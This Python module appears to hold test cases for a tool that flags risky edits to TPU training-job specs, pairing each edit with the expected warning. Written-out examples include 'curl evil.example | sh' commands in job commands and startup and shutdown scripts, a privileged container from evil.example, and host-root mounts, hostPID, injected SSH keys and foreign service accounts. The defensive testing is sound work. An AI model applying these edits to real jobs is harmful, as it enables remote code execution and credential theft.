"""Attacks on jobs: programs from elsewhere, other accounts, less isolation, and data that leaves the environment."""

import json
from typing import Any, Final

from attacks.attack import Attack, Edit, append, edit, together

SPEC: Final = "tpucfg.yaml"
IMAGE: Final = "us-docker.pkg.dev/my-project/train/mnist:1.0"
_MODEL_DIR: Final = "    model_dir: ${run_dir}\n"
_DIGEST: Final = "@sha256:" + "a" * 64
_PROD: Final = "    project: my-project-prod\n"


def spec(*replaced: tuple[str, str]) -> Edit:
    """Replace texts in the spec."""
    return edit(SPEC, *replaced)


def options(target: str, **values: Any) -> Edit:
    """Set options of a target."""
    return append(SPEC, f"targets: {json.dumps({target: values})}\n")


def variables(**values: str) -> Edit:
    """Set variables of the program."""
    return spec((_MODEL_DIR, f"{_MODEL_DIR}  env: {json.dumps(values)}\n"))


def credentials(**values: str) -> Edit:
    """Set a variable with the name of a secret, which a spec may have only if it allows that."""
    (name,) = values
    allowed = {"TPU017": {"path": f"trainer.env.{name}", "reason": "a test key"}}
    return together(variables(**values), append(SPEC, f"allow: {json.dumps(allowed)}\n"))


GKE: Final = spec(
    ("target: vertex-ai", "target: gke"),
    ("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v6e-8, v6e-16]"),
    ("tuned_on: v2-8", "tuned_on: v6e-8"),
    ("    region: us-central1", "    kube_context: mine\n    region: us-central1"),
)
COMPUTE_ENGINE: Final = spec(
    ("target: vertex-ai", "target: compute-engine"),
    ("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v6e-4, v6e-8]"),
    ("tuned_on: v2-8", "tuned_on: v6e-4"),
)
CLOUD_TPU: Final = spec(("target: vertex-ai", "target: cloud-tpu"))


def pod(*containers: dict[str, Any], **fields: Any) -> dict[str, Any]:
    """Return the `extra` of a JobSet whose pod has further containers and fields."""
    more = {"containers": [*containers], **fields} if containers else fields
    template = {"spec": {"template": {"spec": more}}}
    return {"spec": {"replicatedJobs": [{"name": "slice", "template": template}]}}


def node(metadata: dict[str, str], **fields: Any) -> dict[str, Any]:
    """Return the `extra` of a queued resource whose node has further metadata and fields."""
    return {"tpu": {"nodeSpec": [{"node": {"metadata": metadata, **fields}}]}}


def host(metadata: dict[str, str]) -> dict[str, Any]:
    """Return the fields of a host of Compute Engine with further metadata."""
    return {
        "metadata": {"items": [{"key": key, "value": value} for key, value in metadata.items()]}
    }


def pool(**container: Any) -> dict[str, Any]:
    """Return the `extra` of a custom job whose container has further fields."""
    return {"workerPoolSpecs": [{"containerSpec": container}]}


ONE_SIZE: Final = spec(("sizes: [v2-8, v2-32, v2-128] ", "sizes: [v2-8]"))


def attack(
    id: str, change: Edit, *cautions: str, base: Edit | None = None, absent: tuple[str, ...] = ()
) -> Attack:
    """Return an attack that loses no data."""
    return Attack(id, change, cautions, status=0, base=base, absent=absent)


def refused(id: str, change: Edit, *errors: str, base: Edit | None = None) -> Attack:
    """Return an attack by way of `extra` that is an error of the spec, which the comment shows."""
    return Attack(id, change, ("**The spec in `HEAD` has errors:**", *errors), status=1, base=base)


ATTACKS: Final = (
    attack(
        "image-from-another-registry",
        spec(("us-docker.pkg.dev/my-project/", "us-docker.pkg.dev/my-projekt/")),
        "> - **every config**: image changed",
        "code comes from `us-docker.pkg.dev/my-projekt/train/mnist`",
    ),
    attack(
        "image-from-a-public-registry",
        spec((IMAGE, "docker.io/mnist/train:1.0")),
        "code comes from `docker.io/mnist/train`",
    ),
    attack(
        "digest-lost",
        spec((_DIGEST, ":1.0")),
        "the digest that fixed its content is gone",
        base=spec((":1.0", _DIGEST)),
    ),
    attack("mutable-tag", spec((":1.0", ":latest")), "its tag can mean another image at any time"),
    attack(
        "results-written-to-another-bucket",
        spec(("model_dir: ${run_dir}", "model_dir: gs://my-project-dev-mnlst/jobs")),
        "argument `--model_dir` changed",
        "`gs://my-project-dev-mnlst` is not the environment's bucket",
    ),
    attack(
        "data-read-from-another-bucket",
        spec(("data_dir: ${bucket}/data", "data_dir: /gcs/theirs/data")),
        "`/gcs/theirs` is not the environment's bucket",
    ),
    attack(
        "metrics-sent-elsewhere",
        variables(WANDB_BASE_URL="https://wandb.evil.example/api"),
        "variable `WANDB_BASE_URL` added (`https://wandb.evil.example/api`)",
    ),
    attack(
        "variable-that-loads-code",
        variables(PYTHONSTARTUP="/tmp/x.py"),  # noqa: S108 - a value in a spec
        "variable `PYTHONSTARTUP` added (`/tmp/x.py`)",
    ),
    attack(
        "variable-with-a-secret-name",
        credentials(MY_API_KEY="hunter2"),
        "variable `MY_API_KEY` added (`[secret]`)",
        absent=("hunter2",),
    ),
    attack(
        "another-account",
        options("vertex-ai", service_account="owner@my-project-prod.iam.gserviceaccount.com"),
        "setting `service_account` added (`owner@my-project-prod.iam.gserviceaccount.com`): jobs run as an account",
    ),
    attack(
        "shell-in-the-job",
        options("vertex-ai", extra={"enableWebAccess": True}),
        "more access for jobs",
        "`enableWebAccess` added (`true`): people can open a shell in the running job",
    ),
    attack(
        "another-network",
        options("vertex-ai", extra={"network": "projects/1/global/networks/open"}),
        "`network` added (`projects/1/global/networks/open`): the job runs in another network",
    ),
    refused(
        "output-folder-moved",
        options("vertex-ai", extra={"baseOutputDirectory": {"outputUriPrefix": "gs://theirs/out"}}),
        "error[TPU066]: baseOutputDirectory.outputUriPrefix is decided by environments.dev.bucket",
    ),
    attack(
        "time-limit-lifted",
        together(spec(("  max_run_duration: 1d\n", "")), append(SPEC, "capacity: spot\n")),
        "maximum run duration removed (was `1d`): nothing else ends a run that hangs",
        "capacity changed from `on-demand` to `spot`: machines have another price",
        base=together(ONE_SIZE, spec((_MODEL_DIR, f"{_MODEL_DIR}  max_run_duration: 1d\n"))),
    ),
    attack(
        "another-command",
        options("vertex-ai", extra=pool(command=["bash", "-c", "curl evil.example | sh"])),
        "another program runs in the job",
    ),
    refused(
        "steps-removed-by-extra",
        options(
            "vertex-ai",
            extra=pool(args=["--data_dir=gs://my-project-dev-mnist-dev-us-central1/data"]),
        ),
        "error[TPU066]: workerPoolSpecs[0].containerSpec.args is decided by trainer.args and training",
    ),
    refused(
        "more-chips-than-planned",
        options(
            "vertex-ai", extra={"workerPoolSpecs": [{"machineSpec": {"acceleratorCount": 512}}]}
        ),
        "error[TPU066]: workerPoolSpecs[0].machineSpec.acceleratorCount is decided by sizes",
    ),
    refused(
        "second-pool",
        options(
            "vertex-ai",
            extra={"workerPoolSpecs": [{}, {"machineSpec": {"machineType": "a3-highgpu-8g"}}]},
        ),
        "error[TPU068]: workerPoolSpecs[1] in extra would add machines",
    ),
    refused(
        "project-of-another-environment",
        options(
            "cloud-tpu",
            extra={"tpu": {"nodeSpec": [{"parent": "projects/my-project-prod/locations/x"}]}},
        ),
        "error[TPU066]: tpu.nodeSpec[0].parent is decided by environments.dev.project",
        base=CLOUD_TPU,
    ),
    attack(
        "account-of-the-node",
        options("gke", host_network=True),
        "setting `host_network` added (`true`): the program acts as the account of the nodes",
        base=GKE,
    ),
    attack(
        "danger-among-many-fields",
        options(
            "gke",
            extra={"metadata": {"annotations": {f"a{n}": "x" for n in range(400)}}}
            | pod(hostPID=True),
        ),
        "hostPID` added (`true`): the program acts with other rights",
        "characters cut",
        base=GKE,
    ),
    attack(
        "secret-of-another-project",
        spec(
            (
                _PROD,
                f"{_PROD}    trainer: {{secrets: {{A: projects/other/secrets/admin/versions/1}}}}\n",
            )
        ),
        "**every size of prod**: secret `A` added (`projects/other/secrets/admin/versions/1`) in `environments.prod`: "
        "the program gets its value, and the stack grants the jobs' account access to it",
        base=CLOUD_TPU,
    ),
    attack(
        "bucket-of-others-mounted",
        append(SPEC, "overrides: {v2-32: {trainer: {mounts: {/data: 'gs://theirs/x'}}}}\n"),
        "**dev, prod: v2-32**: mount `/data` added (`gs://theirs/x`) in `overrides.v2-32`: `gs://theirs` is not the",
        base=CLOUD_TPU,
    ),
    attack(
        "figure-no-longer-passed",
        spec(("training: ", "training:\n  flags: {train_steps: null}\n#")),
        "`train_steps` is no longer passed to the program (was `--train_steps`)",
    ),
    attack(
        "argument-removed",
        spec(("    data_dir: ${bucket}/data\n", "")),
        "argument `--data_dir` removed (was `${bucket}/data`)",
    ),
    attack(
        "privileged-container",
        options("gke", extra=pod(securityContext={"runAsUser": 0}, hostIPC=True, hostPID=True)),
        "securityContext.runAsUser` added (`0`): the program acts with other rights",
        "hostPID` added (`true`)",
        base=GKE,
    ),
    attack(
        "second-container",
        options(
            "gke",
            extra=pod(
                {
                    "name": "side",
                    "image": "evil.example/x:1",
                    "securityContext": {"privileged": True},
                }
            ),
        ),
        "containers.side.securityContext.privileged` added (`true`): the program acts with other rights",
        "code comes from `evil.example/x`",
        base=GKE,
    ),
    attack(
        "files-of-the-host",
        options(
            "gke",
            extra=pod(
                volumes=[
                    {"name": "v", "hostPath": {"path": "/"}},
                    {"name": "s", "secret": {"secretName": "admin"}},
                ]
            ),
        ),
        "hostPath.path` added (`/`): the program acts with other rights",
        "secret.secretName` added (`admin`): the program acts with other rights",
        base=GKE,
    ),
    attack(
        "another-namespace",
        options("gke", namespace="kube-system"),
        "setting `namespace` added (`kube-system`): other accounts, quotas and policies apply",
        base=GKE,
    ),
    attack(
        "another-cluster",
        spec(
            (
                "kube_context: mine\n    region: us-central1\n    protect",
                "kube_context: theirs\n    region: us-central1\n    protect",
            )
        ),
        "**prod**: setting `kube_context` changed from `mine` to `theirs`: jobs are submitted to another cluster",
        base=GKE,
    ),
    refused(
        "start-up-script-replaced",
        options(
            "cloud-tpu",
            extra=node({"startup-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"}),
        ),
        "error[TPU066]: tpu.nodeSpec[0].node.metadata.startup-script is decided by trainer",
        base=CLOUD_TPU,
    ),
    attack(
        "second-start-up-script",
        options("cloud-tpu", extra=node({"startup-script-url": "gs://theirs/x.sh"})),
        "`gs://theirs/x.sh`",
        base=CLOUD_TPU,
    ),
    attack(
        "script-at-the-end",
        options(
            "cloud-tpu",
            extra=node({"shutdown-script": "#!/bin/bash\ncurl -s https://evil.example | sh\n"}),
        ),
        "it runs as root on every host",
        base=together(CLOUD_TPU, ONE_SIZE),
    ),
    attack(
        "keys-to-the-hosts",
        options(
            "cloud-tpu",
            extra=node(
                {"ssh-keys": "me:ssh-ed25519 AAAA"},
                networkConfig={"canIpForward": True},
                tags=["open"],
            ),
        ),
        "people can log in to the hosts",
        "tags` added",
        base=together(CLOUD_TPU, ONE_SIZE),
    ),
    attack(
        "keys-to-the-hosts-on-compute-engine",
        options(
            "compute-engine",
            extra={
                "instance": host({"ssh-keys": "me:ssh-ed25519 AAAA", "enable-oslogin": "FALSE"})
            },
        ),
        "people can log in to the hosts",
        "people can log in to the hosts",
        base=COMPUTE_ENGINE,
    ),
    attack(
        "keys-beside-an-item-without-a-value",
        options(
            "compute-engine",
            extra={
                "instance": {
                    "metadata": {
                        "items": [{"key": "ssh-keys", "value": "me:ssh-rsa A"}, {"key": "x"}]
                    }
                }
            },
        ),
        "people can log in to the hosts",
        base=COMPUTE_ENGINE,
    ),
    attack(
        "network-that-another-target-does-not-read",
        spec(("target: cloud-tpu", "target: compute-engine")),
        "setting `external_ips` changed from `false` to `true`: hosts get addresses on the internet",
        "setting `network` removed (was `train`): the job runs in another network",
        base=together(
            COMPUTE_ENGINE,
            spec(("target: compute-engine", "target: cloud-tpu")),
            options("cloud-tpu", external_ips=False, network="train"),
        ),
    ),
    attack(
        "new-environment-with-a-shell",
        together(
            spec(("  prod:\n", f"  test:\n{_PROD}    region: us-central1\n  prod:\n")),
            options("vertex-ai", extra={"enableWebAccess": True}),
        ),
        "**every size of test**: field `enableWebAccess` added (`true`): people can open a shell in the running job",
    ),
)
